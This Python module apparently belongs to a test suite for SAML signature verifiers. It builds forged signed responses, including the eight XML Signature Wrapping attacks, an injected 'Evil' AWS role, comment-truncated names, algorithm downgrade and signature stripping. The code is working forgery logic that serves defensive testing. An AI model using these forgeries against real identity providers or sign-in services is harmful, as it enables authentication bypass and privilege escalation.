"""What attackers do to a signed response. Each function takes the bytes and gives other bytes; none has the key.

The eight wrappings are those of Somorovsky et al., "On Breaking SAML" (2012). They move the signed element to where a
careless verifier still finds it and put an evil one where a careless reader looks.
"""

import copy

from lxml import etree

from verifiers import ASSERTION, DS, NS, PROTOCOL, parse

EVIL_ROLE = "arn:aws:iam::999999999999:saml-provider/Evil,arn:aws:iam::999999999999:role/Evil"


def replace(old, new, count=1):
    def change(xml):
        assert old in xml, old
        return xml.replace(old, new, count)
    return change


def without(path):
    def change(xml):
        root = parse(xml)
        for element in root.xpath(path, namespaces=NS):
            element.getparent().remove(element)
        return etree.tostring(root)
    return change


def another_role(xml):
    root = parse(xml)
    values = root.xpath("//a:AttributeValue[starts-with(., 'arn:')]", namespaces=NS)
    values[0].addnext(copy.deepcopy(values[0]))
    values[0].text = EVIL_ROLE
    return etree.tostring(root)


def parts(xml):
    """Root, original assertion with its signature, and an evil twin without signature and with another identifier."""
    root = parse(xml)
    original = root.find("a:Assertion", NS)
    evil = copy.deepcopy(original)
    evil.remove(evil.find("ds:Signature", NS))
    evil.set("ID", "idevil")
    evil.xpath(".//a:AttributeValue[starts-with(., 'arn:')]", namespaces=NS)[0].text = EVIL_ROLE
    evil.find("a:Subject/a:NameID", NS).text = "evil"
    return root, original, evil


def evil_response(xml):
    """The root as it was, its signature apart, and an evil twin of the root without signature."""
    original = parse(xml)
    signature = original.find("ds:Signature", NS)
    original.remove(signature)
    evil = copy.deepcopy(original)
    evil.set("ID", "idevilresponse")
    evil.xpath("//a:AttributeValue[starts-with(., 'arn:')]", namespaces=NS)[0].text = EVIL_ROLE
    return original, signature, evil


def xsw1(xml):
    original, signature, evil = evil_response(xml)
    signature.append(original)
    evil.insert(1, signature)
    return etree.tostring(evil)


def xsw2(xml):
    original, signature, evil = evil_response(xml)
    evil.insert(1, original)
    evil.insert(2, signature)
    return etree.tostring(evil)


def xsw3(xml):
    root, original, evil = parts(xml)
    original.addprevious(evil)
    return etree.tostring(root)


def xsw4(xml):
    root, original, evil = parts(xml)
    original.addprevious(evil)
    evil.append(original)
    return etree.tostring(root)


def xsw5(xml):
    root, original, evil = parts(xml)
    signature = original.find("ds:Signature", NS)
    original.addprevious(evil)
    evil.insert(1, signature)
    root.append(original)
    return etree.tostring(root)


def xsw6(xml):
    root, original, evil = parts(xml)
    signature = original.find("ds:Signature", NS)
    original.addprevious(evil)
    evil.insert(1, signature)
    signature.append(original)
    return etree.tostring(root)


def xsw7(xml):
    root, original, evil = parts(xml)
    extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
    original.addprevious(extensions)
    extensions.append(evil)
    evil.append(original)
    return etree.tostring(root)


def xsw8(xml):
    root, original, evil = parts(xml)
    signature = original.find("ds:Signature", NS)
    original.addprevious(evil)
    evil.insert(1, signature)
    holder = etree.SubElement(signature, f"{{{DS}}}Object")
    holder.append(original)
    return etree.tostring(root)


def same_identifier(xml):
    """As xsw5, and both assertions have the same identifier: which one is meant?"""
    return xsw5(xml).replace(b"idevil", parse(xml).find("a:Assertion", NS).get("ID").encode())


ROLE = b":role/Team-Administrator-000"
FORGERIES = {
    "role changed": replace(ROLE, b":role/Team-Administrator-999"),
    "role added": another_role,
    "audience changed": replace(b"urn:amazon:webservices<", b"urn:amazon:webservicez<"),
    "recipient changed": replace(b"Recipient=\"https://signin", b"Recipient=\"https://s1gnin"),
    "name changed": replace(b">ann@example.org<", b">bob@example.org<"),
    "end of life changed": replace(b"NotOnOrAfter=\"20", b"NotOnOrAfter=\"21"),
    "comment that hides the end of a name":
        replace(b">ann@example.org</saml2:NameID>", b">ann@example.org<!-- -->.evil.example</saml2:NameID>"),
    "blank added": replace(b"</saml2:Subject>", b"</saml2:Subject> "),
    "weaker algorithm named": replace(b"2001/04/xmldsig-more#rsa-sha256", b"2000/09/xmldsig#rsa-sha1", 2),
    "signature stripped": without("//ds:Signature"),
    "signature of the assertion stripped": without("//a:Assertion/ds:Signature"),
    "XSW3": xsw3, "XSW4": xsw4, "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7, "XSW8": xsw8,
    "XSW5 with one identifier twice": same_identifier,
}
# Where the response is signed too.
RESPONSE_FORGERIES = {
    "XSW1": xsw1, "XSW2": xsw2,
    "destination changed": replace(b"Destination=\"https://signin", b"Destination=\"https://s1gnin"),
    "status changed": replace(b"status:Success", b"status:Responder"),
}
# Not covered by the signature: canonical form drops comments, and nobody trusts the certificate in the message.
HARMLESS_COMMENT = replace(b">ann@example.org</saml2:NameID>", b">ann@exa<!-- -->mple.org</saml2:NameID>")


def other_certificate(pem):
    def change(xml):
        root = parse(xml)
        for certificate in root.iter(f"{{{DS}}}X509Certificate"):
            certificate.text = "".join(pem.splitlines()[1:-1])
        return etree.tostring(root)
    return change
